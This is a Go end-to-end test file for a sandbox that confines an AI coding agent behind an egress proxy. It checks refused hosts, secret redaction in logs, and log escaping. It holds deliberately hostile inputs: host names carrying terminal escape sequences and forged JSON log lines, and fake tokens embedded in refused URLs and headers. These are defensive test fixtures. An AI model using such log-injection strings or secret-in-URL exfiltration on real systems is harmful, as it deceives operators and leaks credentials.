package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/bot-bottle/bottle/internal/labtest"
	"github.com/bot-bottle/bottle/internal/leakcheck"
)

// TestGitClone clones over HTTPS from a host of the test network,
// through the proxy, inside gVisor.
func TestGitClone(t *testing.T) {
	leakcheck.Check(t)
	u := newUser(t)
	clone := func(host string) string { return "cd /tmp && git clone --quiet https://" + host + "/demo.git x" }

	t.Run("allowed", func(t *testing.T) {
		r := u.run("sh", "-c", clone("git.allowed.test")+" && git -C x log --format=%H -1 && dmesg | grep -c gVisor")
		head := strings.Fields(r.stdout)
		if r.code != 0 || len(head) != 2 || len(head[0]) != 40 || head[1] == "0" {
			t.Fatalf("exit %d: %q\n%s", r.code, r.stdout, r.stderr)
		}
		// The same commit, read on the server: the clone is identical to
		// the server's.
		if want := worldHead(t); head[0] != want {
			t.Errorf("cloned %s; the host has %s", head[0], want)
		}
	})
	t.Run("refused", func(t *testing.T) {
		seen := labtest.World(t)
		r := u.run("sh", "-c", clone("git.refused.test"))
		if r.code != 128 || !strings.Contains(r.stderr, "response 403") {
			t.Errorf("exit %d\n%s", r.code, r.stderr)
		}
		if !strings.Contains(r.stderr, "The egress proxy refused: git.refused.test:443") {
			t.Errorf("no message names the host:\n%s", r.stderr)
		}
		for _, e := range seen() {
			if strings.HasPrefix(e.Local, "198.51.101.13:") {
				t.Errorf("the refused host was reached: %+v", e)
			}
		}
	})
	t.Run("without proxy variables", func(t *testing.T) {
		unset := "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy; "
		r := u.run("sh", "-c", unset+clone("git.allowed.test"))
		if r.code != 128 || !strings.Contains(r.stderr, "Could not resolve host: git.allowed.test") {
			t.Errorf("exit %d\n%s", r.code, r.stderr)
		}
	})
	t.Run("empty allowlist", func(t *testing.T) {
		r := u.run("offline", "-c", clone("git.allowed.test"))
		if r.code != 128 || !strings.Contains(r.stderr, "git.allowed.test:443") {
			t.Errorf("exit %d\n%s", r.code, r.stderr)
		}
	})
}

func worldHead(t *testing.T) string {
	t.Helper()
	cmd := exec.Command("git", "ls-remote", "https://git.allowed.test/demo.git", "HEAD")
	cmd.Env = append(os.Environ(), "GIT_SSL_CAINFO="+os.Getenv("LAB_CA"))
	var errs strings.Builder
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("ask the git host: %v: %s", err, &errs)
	}
	return strings.Fields(string(out))[0]
}

// TestClaudeCode runs the real agent, which uses a mock of the Messages API that
// answers with a tool call.
func TestClaudeCode(t *testing.T) {
	leakcheck.Check(t)
	u := newUser(t).with("TEST_KEY=sk-ant-test-0123456789abcdefghij")
	seen := labtest.World(t)
	r := u.run("claude", "-p", "RUN: echo \"made by $(uname -s) $(id -u)\" > /tmp/made && cat /tmp/made", "--allowed-tools", "Bash")
	if r.code != 0 || !strings.Contains(r.stdout, "TOOL-ROUND-DONE: made by Linux 1000") {
		t.Fatalf("exit %d: %q\n%s", r.code, r.stdout, r.stderr)
	}
	messages := 0
	for _, e := range seen() {
		if e.Event == "request" && e.Host == "api.anthropic.com" && strings.HasPrefix(e.Path, "/v1/messages") {
			messages++
		} else if e.Event == "request" && e.Host != "api.anthropic.com" {
			t.Errorf("a request to another host than the API: %+v", e)
		}
	}
	if messages < 2 {
		t.Errorf("the API saw %d messages; a tool round has two", messages)
	}
	if strings.Contains(r.stderr, "refused") {
		t.Errorf("the agent wanted more than the API:\n%s", r.stderr)
	}
}

func TestEgressLog(t *testing.T) {
	leakcheck.Check(t)
	u := newUser(t)
	l := u.start("claude-bottle-log")
	u.exec(l.name, "curl", "-sS", "-o", "/dev/null", "https://allowed.test/").want(t, 0, "")
	if r := u.exec(l.name, "curl", "-sS", "http://refused.test/"); !strings.Contains(r.stdout, "refused.test") || r.code != 0 {
		t.Errorf("the refusal of plain HTTP does not name the host: exit %d %q", r.code, r.stdout)
	}
	// A client that opens a tunnel for plain HTTP, and a request to the sandbox itself.
	u.exec(l.name, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "-p", "http://allowed.test/").want(t, 0, "200")
	for _, host := range []string{"127.0.0.1", "localhost", "10.77.0.2", l.name} {
		r := u.exec(l.name, "curl", "-sS", "--noproxy", "", "http://"+host+":8123/")
		if !strings.Contains(r.stdout, host+" is the sandbox's own address") {
			t.Errorf("%s: exit %d %q", host, r.code, r.stdout)
		}
	}
	// By default a client connects to the sandbox itself without the proxy: curl's exit code 7 is a refused connection.
	for _, host := range []string{"127.0.0.1", "127.0.1.1", "[::1]", "0.0.0.0", "localhost", "10.77.0.2", l.name} {
		if r := u.exec(l.name, "curl", "-sS", "http://"+host+":8124/"); r.code != 7 || r.stdout != "" {
			t.Errorf("%s without the proxy: exit %d %q %q", host, r.code, r.stdout, r.stderr)
		}
	}
	all := u.bottle("egress", l.name).stdout
	denied := u.bottle("egress", "log", "--denied").stdout
	if !strings.Contains(all, "allowed  allowed.test:443") || !strings.Contains(all, "refused  refused.test:80 ") || !strings.Contains(all, "http://refused.test/") ||
		!strings.Contains(all, "allowed  allowed.test:80 ") || !strings.Contains(all, "http://allowed.test/") {
		t.Errorf("the log:\n%s", all)
	}
	if strings.Contains(all, ":8124") {
		t.Errorf("the proxy received requests for the sandbox itself:\n%s", all)
	}
	if strings.Contains(denied, "allowed.test:443") || !strings.Contains(denied, "refused.test") {
		t.Errorf("what was denied:\n%s", denied)
	}
	if code := l.end(); code != 0 {
		t.Errorf("exit %d\n%s", code, l.errs)
	}
	if end := l.errs.String(); !strings.Contains(end, "refused.test") || strings.Contains(end, ":8123 --save") {
		t.Errorf("the session's end:\n%s", end)
	}
}

// TestEgressLogOnDisk has an agent put secrets into URLs that are refused: each
// request is in the log, and no secret is in its files.
func TestEgressLogOnDisk(t *testing.T) {
	leakcheck.Check(t)
	u := newUser(t)
	l := u.start("claude-bottle-disk")
	const token, value = "ghp_0123456789abcdefghijABCDEFGHIJ012345", "s3cr3t-of-no-form"
	urls := []string{
		"http://refused.test/?key=" + value, "http://user:" + value + "@refused.test/", "http://refused.test/" + token,
		"http://refused.test/" + strings.ReplaceAll(token, "_", "%5f"), "http://allowed.test/?key=" + token, "http://allowed.test/#" + value,
		"https://" + token + ".refused.test/",
	}
	for _, url := range urls {
		u.exec(l.name, "curl", "-sS", "-m", "20", "-o", "/dev/null", url)
	}
	for _, header := range []string{"Authorization: Bearer " + token, "Proxy-Authorization: Bearer " + value} {
		u.exec(l.name, "curl", "-sS", "-m", "20", "-o", "/dev/null", "-H", header, "http://refused.test/")
	}
	files, err := filepath.Glob(filepath.Join("/var/lib/bottle", os.Getenv("CONTAINERD_NAMESPACE"), l.name, "*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no files: %v", err)
	}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, secret := range []string{token, strings.ToLower(token), value, strings.ReplaceAll(token, "_", "%5f")} {
			if strings.Contains(string(data), secret) {
				t.Errorf("%s shows %s:\n%s", file, secret, data)
			}
		}
	}
	// One of them is allowed, because clients do not send fragments.
	if r := u.bottle("egress", l.name, "--denied", "--json"); strings.Count(r.stdout, "\n") != len(urls)+2-1 {
		t.Errorf("refused are\n%s", r.stdout)
	}
	if code := l.end(); code != 0 {
		t.Errorf("exit %d\n%s", code, l.errs)
	}
}

// hostileRequests are what an agent would have obeyed by the terminal of who
// looks at its log, or taken for lines of the log.
var hostileRequests = []string{
	`CONNECT a\302\2332Kb.test:443`,                                      // CSI as one character, ECMA-48
	`CONNECT a\342\200\256b.test:443`,                                    // what turns the writing round
	`CONNECT x\",\"event\":\"tunnel_open\",\"target\":\"forged.test:443`, // JSON
	`CONNECT a\033[2Kb.test:443`,
	`GET http://c\302\2332Kd.test/\302\2332K?\033]0;x\007`,
	`GET http://refused.test/x\r{\"event\":\"tunnel_open\",\"target\":\"forged.test:443\"}`,
	`GET http://allowed.test/\302\2332K`,
	`\302\2332K http://refused.test/`,
}

// TestHostileLog requests hosts whose names contain terminal control sequences.
// Neither output format of the log nor the table at the end of the session contains
// such a character or a forged line.
func TestHostileLog(t *testing.T) {
	leakcheck.Check(t)
	u := newUser(t)
	l := u.start("claude-bottle-hostile")
	for _, request := range hostileRequests {
		script := fmt.Sprintf(`exec 3<>/dev/tcp/10.77.0.1/8888; printf '%s HTTP/1.1\r\nHost: refused.test\r\n\r\n' >&3; timeout 5 head -n 1 <&3`, request)
		if r := u.exec(l.name, "bash", "-c", script); !strings.HasPrefix(r.stdout, "HTTP/1.") {
			t.Errorf("%s: no answer, exit %d: %s%s", request, r.code, r.stdout, r.stderr)
		}
	}
	shown, asJSON := u.bottle("egress", l.name), u.bottle("egress", "--json", l.name)
	// The control: the log contains the characters. They are escaped, so that the file can be printed.
	raw, err := os.ReadFile(filepath.Join("/var/lib/bottle", os.Getenv("CONTAINERD_NAMESPACE"), l.name, "egress.log"))
	if err != nil || !strings.Contains(string(raw), `\u009b`) {
		t.Errorf("the log does not have them either, so that this shows nothing: %v", err)
	}
	code := l.end()
	for what, text := range map[string]string{"the log's file": string(raw), "the log": shown.stdout, "the log as JSON": asJSON.stdout, "the session's end": l.errs.String()} {
		if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
			t.Errorf("%s has what a terminal would obey: %q", what, text[i:min(len(text), i+20)])
		}
		if !strings.Contains(text, "b.test:443") {
			t.Errorf("%s does not have the requests at all:\n%s", what, text)
		}
	}
	for line := range strings.Lines(asJSON.stdout) {
		var e struct{ Verdict, Destination string }
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Errorf("%v in %q", err, line)
		}
		if e.Destination == "forged.test:443" || e.Verdict == "allowed" && !strings.HasPrefix(e.Destination, "allowed.test") {
			t.Errorf("a forged line: %s", line)
		}
	}
	if code != 0 {
		t.Errorf("exit %d\n%s", code, l.errs)
	}
}
